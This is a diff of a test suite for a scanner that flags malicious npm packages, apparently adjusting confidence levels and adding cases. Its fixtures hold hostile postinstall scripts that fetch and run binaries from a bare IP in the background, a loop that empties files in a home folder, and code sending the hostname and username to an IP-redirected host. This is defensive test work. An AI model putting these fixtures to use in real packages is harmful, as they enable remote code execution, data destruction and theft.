@@ -51,7 +51,7 @@ describe('a download run by code a user calls, from a bare IP over plain HTTP, s
     "const get = (cb) => https.get('https://downloads.pathmap.dev/indexd-' + process.platform, cb);",
   ].join('\n');
 
-  it('is critical: two or more of a bare IP, plain HTTP and a detached start', () => {
+  it('is critical from a bare IP over plain HTTP, started detached: 0.85', () => {
     const r = analyzeSource(
       pkg(rawIp, "spawn(file, ['--serve'], { detached: true, stdio: 'ignore' }).unref();"),
     );
@@ -246,10 +246,23 @@ describe('round 78: a remote script loaded only into pages that hold secrets', (
     ].join('\n'),
   });
 
-  it('gated on secret fields or a wallet, and hidden from developers’ machines: critical', () => {
+  it('gated on secret fields or a wallet, even hidden from developers’ machines: a warning', () => {
+    // (A strength meter or a captcha loaded from a CDN for login pages, skipping local hosts, does
+    // the same: below critical.)
     const r = analyzeSource(pkg('if (!live()) return; if (sensitive() < 1) return;'));
-    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBeGreaterThanOrEqual(0.8);
-    expect(r.risk_level).toBe('critical');
+    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
+    expect(r.risk_level).toBe('warning');
+  });
+
+  it('read with the test’s sense: skipped on pages with secret fields, or loaded when no wallet is there', () => {
+    for (const gate of [
+      'if (sensitive() > 0) return;',
+      'if (window.ethereum) return;',
+      'if (!live() || sensitive()) return;',
+    ])
+      expect([gate, ruleOf(analyzeSource(pkg(gate)), 'js.gated-remote-script')]).toEqual([gate, undefined]);
+    const r = analyzeSource(pkg('if (!live() || sensitive() === 0) return;'));
+    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
   });
 
   it('gated on secret fields alone (a lazy loader could do that for its widget): a warning', () => {
@@ -284,7 +297,7 @@ describe('round 78, rewritten: the secret-page probe written another way', () =>
         '};',
       ].join('\n'),
     });
-    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBeGreaterThanOrEqual(0.8);
+    expect(ruleOf(r, 'js.gated-remote-script')?.confidence).toBe(0.6);
   });
 });
 
@@ -353,5 +366,120 @@ describe('environment pairs and Gatsby plugin hooks', () => {
       ),
     );
     expect(r.risk_level).toBe('clean');
+  });
+});
+
+describe('review of the twentieth session', () => {
+  it('eight thousand nested launchers in a shipped script: read, no crash', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'nest',
+        version: '1.0.0',
+        scripts: { postinstall: 'sh run.sh' },
+      }),
+      'run.sh': [
+        '#!/bin/sh',
+        'curl -s -o /tmp/.n http://203.0.113.9/n && chmod +x /tmp/.n',
+        `${'nice '.repeat(8000)}/tmp/.n`,
+      ].join('\n'),
+    });
+    expect(r.risk_level).not.toBe('clean');
+  });
+
+  it('tmux with combined options or its own options first, and screen -d -m, start in the background', () => {
+    for (const launch of [
+      "tmux new -ds dtl '/tmp/.dtl --serve'",
+      "tmux -L sock new-session -d '/tmp/.dtl'",
+      'screen -d -m /tmp/.dtl',
+      'screen -L -Logfile /tmp/l -dmS x /tmp/.dtl',
+    ]) {
+      const r = analyzeSource({
+        'package.json': JSON.stringify({
+          name: 'dtl',
+          version: '1.0.0',
+          scripts: { postinstall: 'sh setup.sh' },
+        }),
+        'setup.sh': [
+          '#!/bin/sh',
+          'curl -s -o /tmp/.dtl http://203.0.113.9/agent',
+          'chmod +x /tmp/.dtl',
+          launch,
+        ].join('\n'),
+      });
+      expect([launch, ruleOf(r, 'script.download-execute')?.message]).toEqual([
+        launch,
+        expect.stringContaining('in the background'),
+      ]);
+    }
+  });
+
+  const trim = (find: string) => ({
+    'package.json': JSON.stringify({
+      name: 'devlog-trim',
+      version: '1.0.0',
+      bin: { 'devlog-trim': 'trim.sh' },
+    }),
+    'trim.sh': [
+      '#!/bin/sh',
+      'for d in "$@"; do',
+      `  ${find} | while read -r f; do`,
+      '    : > "$f"',
+      '  done',
+      'done',
+    ].join('\n'),
+  });
+  it('emptying the files of a home folder named by a variable, picked by size or age: quiet', () => {
+    for (const find of ['find "$HOME/$d" -type f -size +50M', 'find "$HOME/$d" -type f -mtime +30'])
+      expect([find, ruleOf(analyzeSource(trim(find)), 'script.destructive')]).toEqual([find, undefined]);
+  });
+  it('a negated or match-all name test picks nothing out: still the user’s files', () => {
+    for (const find of ['find "$HOME/$d" -type f ! -name ".*"', 'find "$HOME/$d" -type f -name \'*\''])
+      expect([find, ruleOf(analyzeSource(trim(find)), 'script.destructive')?.rule]).toEqual([
+        find,
+        'script.destructive',
+      ]);
+  });
+
+  const daemon = (get: string, cachedFirst = false) => ({
+    'package.json': JSON.stringify({ name: 'mockd', version: '1.0.0', main: 'index.js' }),
+    'index.js': [
+      "const fs = require('fs');",
+      "const http = require('http');",
+      "const https = require('https');",
+      "const { spawn } = require('child_process');",
+      "const bin = require('os').homedir() + '/.mockd/server';",
+      "const start = () => spawn(bin, ['--port', '4010'], { detached: true, stdio: 'ignore' }).unref();",
+      'exports.up = () => {',
+      cachedFirst ? '  if (fs.existsSync(bin)) return start();' : '',
+      `  ${get}(res) => res.pipe(fs.createWriteStream(bin, { mode: 0o755 })).on('finish', start));`,
+      '};',
+    ].join('\n'),
+  });
+  it('a daemon fetched from the project’s own HTTP mirror or an HTTPS address on an IP stays a warning', () => {
+    for (const get of [
+      "http.get('http://mirror.mockd.example/server', ",
+      "https.get('https://203.0.113.5/server', ",
+    ])
+      expect([get, ruleOf(analyzeSource(daemon(get)), 'js.drop-and-run')?.confidence]).toEqual([get, 0.75]);
+  });
+  it('from a bare IP over plain HTTP, detached, with the cached copy started first: 0.85', () => {
+    const r = analyzeSource(daemon("http.get('http://203.0.113.5/server', ", true));
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.85);
+  });
+
+  it('an own-service request whose options connect elsewhere (a lookup) is not the package’s own', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'mdpress', version: '0.3.0', main: 'index.js' }),
+      'index.js': [
+        "const os = require('os');",
+        "const https = require('https');",
+        'exports.report = (command) => {',
+        '  const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, command });',
+        "  const req = https.request({ host: 'events.mdpress.dev', path: '/e', method: 'POST', lookup: (n, o, cb) => cb(null, '203.0.113.7', 4) });",
+        '  req.end(body);',
+        '};',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-fingerprint')?.confidence).toBeGreaterThanOrEqual(0.5);
   });
 });
